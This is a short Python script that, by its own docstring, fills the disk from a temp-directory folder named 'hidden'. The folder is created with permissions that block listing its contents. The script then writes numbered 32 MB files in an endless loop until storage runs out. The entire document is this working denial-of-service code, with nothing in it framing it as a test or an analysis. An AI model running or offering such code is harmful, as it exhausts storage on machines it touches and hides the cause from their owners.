"""Fills the disk in a folder that nobody can look into."""

import itertools
import os
import tempfile

folder = os.path.join(tempfile.gettempdir(), "hidden")
os.mkdir(folder, 0o300)
chunk = bytes(1 << 20)
for number in itertools.count():
    with open(os.path.join(folder, str(number)), "wb") as file:
        file.writelines(chunk for _ in range(32))
